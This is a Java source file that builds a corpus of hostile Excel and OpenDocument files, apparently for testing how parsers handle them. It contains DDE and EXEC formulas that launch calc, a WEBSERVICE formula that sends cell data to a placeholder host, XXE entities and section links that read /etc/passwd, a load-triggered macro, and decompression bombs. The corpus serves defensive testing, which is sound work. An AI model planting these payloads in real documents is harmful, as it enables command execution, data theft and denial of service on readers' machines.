package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.ACTIVE_CONTENT;
import static org.junitsandbox.corpus.Attack.BOMB;
import static org.junitsandbox.corpus.Attack.ENCRYPTED;
import static org.junitsandbox.corpus.Attack.EXTERNAL_REFERENCE;
import static org.junitsandbox.corpus.Attack.HUGE_PROMISE;
import static org.junitsandbox.corpus.Attack.LOOP;
import static org.junitsandbox.corpus.Attack.MALFORMED;
import static org.junitsandbox.corpus.Attack.MANY_ENTRIES;

import java.util.function.Supplier;
import java.util.stream.Stream;

/** Workbooks of Excel (ECMA-376) and tables and texts of OpenDocument (ODF 1.3). */
final class SheetFiles {

    private static final Family EXCEL = Family.of(
            Format.XLSX, Content.of(() -> OfficePackage.workbook(OfficePackage.cells("<c r=\"A1\"><v>3</v></c>"))
                    .toArray()));
    private static final Family TABLE =
            Family.of(Format.ODS, Content.of(() -> table("<table:table-cell/>").toArray()));
    private static final Family TEXT = Family.of(
            Format.ODT, Content.of(() -> text("<text:p>harmless</text:p>").toArray()));
    private static final String REMOTE = "http://example.invalid/x";

    private SheetFiles() {}

    static Stream<HostileFile> files() {
        return Stream.of(references(), loads(), tables(), texts()).flatMap(all -> all);
    }

    private static HostileFile excel(
            Attack attack, String variant, String description, String section, Supplier<OfficePackage> maker) {
        return EXCEL.file(
                attack,
                variant,
                description,
                "ECMA-376 part 1 section " + section,
                Content.of(() -> maker.get().toArray()));
    }

    private static OfficePackage formula(String formula) {
        return OfficePackage.workbook(OfficePackage.cells("<c r=\"A1\"><f>" + formula + "</f></c>"));
    }

    private static Stream<HostileFile> references() {
        return Stream.of(
                excel(
                        EXTERNAL_REFERENCE,
                        "workbook",
                        "A link leads to a workbook at an address in the network.",
                        "18.14",
                        () -> formula("[1]one!A1")
                                .relations(
                                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                                        OfficePackage.external("externalLinkPath", REMOTE + ".xlsx"))),
                excel(
                        EXTERNAL_REFERENCE,
                        "web-service",
                        "A formula asks an address in the network, with another cell in it.",
                        "18.17",
                        () -> formula("WEBSERVICE(\"http://example.invalid/?\"&amp;B1)")),
                excel(
                        ACTIVE_CONTENT,
                        "dde",
                        "A formula starts a program by dynamic data exchange.",
                        "18.14.4",
                        () -> formula("cmd|'/C calc'!A0")),
                excel(
                        ACTIVE_CONTENT,
                        "call",
                        "A formula calls a function of the system.",
                        "18.17.7",
                        () -> formula("EXEC(\"calc.exe\")")),
                excel(
                        LOOP,
                        "formulas",
                        "Two cells are calculated from each other.",
                        "18.17",
                        () -> OfficePackage.workbook(
                                OfficePackage.cells("<c r=\"A1\"><f>B1</f></c><c r=\"B1\"><f>A1</f></c>"))));
    }

    private static Stream<HostileFile> loads() {
        String cell = "<c t=\"s\"><v>0</v></c>";
        return Stream.of(
                EXCEL.begin(
                                BOMB,
                                "shared-string",
                                "5,000 cells share a text of 32,000 characters: 160 MB.",
                                "ECMA-376 part 1 section 18.4.9")
                        .expandsTo(160_000_000, 5_000, 1)
                        .content(Content.of(() -> OfficePackage.workbook(OfficePackage.cells(cell.repeat(5_000)))
                                .part(
                                        "xl/sharedStrings.xml",
                                        "<sst><si><t>" + "x".repeat(32_000) + "</t></si></sst>")
                                .toArray()))
                        .build(),
                excel(
                        HUGE_PROMISE,
                        "dimension",
                        "The sheet states 17 billion cells and has one.",
                        "18.3.1.35",
                        () -> OfficePackage.workbook("<dimension ref=\"A1:XFD1048576\"/>"
                                + OfficePackage.cells("<c r=\"A1\"><v>3</v></c>"))),
                excel(
                        HUGE_PROMISE,
                        "row-number",
                        "A row has the number 2147483647.",
                        "18.3.1.73",
                        () -> OfficePackage.workbook(
                                "<sheetData><row r=\"2147483647\"><c><v>3</v></c></row></sheetData>")),
                excel(
                        MANY_ENTRIES,
                        "cells",
                        "A row of 10,000 empty cells.",
                        "18.3.1.4",
                        () -> OfficePackage.workbook(OfficePackage.cells("<c/>".repeat(10_000)))),
                excel(
                        MALFORMED,
                        "shared-string",
                        "A cell is a shared text that is not there.",
                        "18.4.8",
                        () -> OfficePackage.workbook(OfficePackage.cells("<c r=\"A1\" t=\"s\"><v>7</v></c>"))));
    }

    private static OfficePackage table(String cells) {
        return OfficePackage.open(
                "spreadsheet",
                "",
                "<table:table table:name=\"one\"><table:table-row>" + cells + "</table:table-row></table:table>");
    }

    private static HostileFile.Builder table(
            Attack attack, String variant, String description, String section, String cells) {
        return TABLE.begin(attack, variant, description, "ODF 1.3 part 3 section " + section)
                .content(Content.of(() -> table(cells).toArray()));
    }

    private static Stream<HostileFile> tables() {
        return Stream.of(
                table(
                                BOMB,
                                "repeated-cells",
                                "A cell is repeated 16,384 times in each of 1,048,576 rows.",
                                "19.675",
                                "</table:table-row><table:table-row table:number-rows-repeated=\"1048576\">"
                                        + "<table:table-cell table:number-columns-repeated=\"16384\"/>")
                        .expandsTo(0, 16_384L * 1_048_576, 1)
                        .build(),
                table(
                                ACTIVE_CONTENT,
                                "dde",
                                "A formula starts a program by dynamic data exchange.",
                                "19.642",
                                "<table:table-cell table:formula=\"of:=DDE('cmd';'/C calc';'x')\"/>")
                        .build(),
                table(
                                EXTERNAL_REFERENCE,
                                "web-service",
                                "A formula asks an address in the network.",
                                "19.642",
                                "<table:table-cell table:formula=\"of:=WEBSERVICE('" + REMOTE + "')\"/>")
                        .build());
    }

    private static OfficePackage text(String body) {
        return OfficePackage.open("text", "", body);
    }

    private static HostileFile text(
            Attack attack, String variant, String description, String section, Supplier<OfficePackage> maker) {
        return TEXT.file(
                attack,
                variant,
                description,
                "ODF 1.3 part 3 section " + section,
                Content.of(() -> maker.get().toArray()));
    }

    private static Stream<HostileFile> texts() {
        return Stream.of(
                text(
                        EXTERNAL_REFERENCE,
                        "image",
                        "A picture is at an address in the network.",
                        "10.4.4",
                        () -> text("<draw:image xlink:href=\"" + REMOTE + ".png\"/>")),
                text(
                        EXTERNAL_REFERENCE,
                        "section-file",
                        "A section is the file /etc/passwd.",
                        "5.4.2",
                        () -> text("<text:section-source xlink:href=\"file:///etc/passwd\"/>")),
                text(
                        EXTERNAL_REFERENCE,
                        "entity",
                        "An entity in the text is the file /etc/passwd.",
                        "2.2",
                        () -> OfficePackage.open(
                                "text",
                                "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
                                "<text:p>&x;</text:p>")),
                text(
                        ACTIVE_CONTENT,
                        "macro",
                        "Opening the document runs a macro.",
                        "3.13",
                        () -> text("<script:event-listener script:event-name=\"dom:load\""
                                + " xlink:href=\"vnd.sun.star.script:a.b.c?language=Basic\"/>")),
                TEXT.file(
                        ENCRYPTED,
                        "password",
                        "The text needs a password to be opened.",
                        "ODF 1.3 part 2 section 3.4",
                        Content.of(() -> OfficePackage.encrypted("<text:p>harmless</text:p>")
                                .toArray())),
                text(
                        HUGE_PROMISE,
                        "spaces",
                        "An element stands for 2,147,483,647 spaces.",
                        "6.1.3",
                        () -> text("<text:p><text:s text:c=\"2147483647\"/></text:p>")));
    }
}
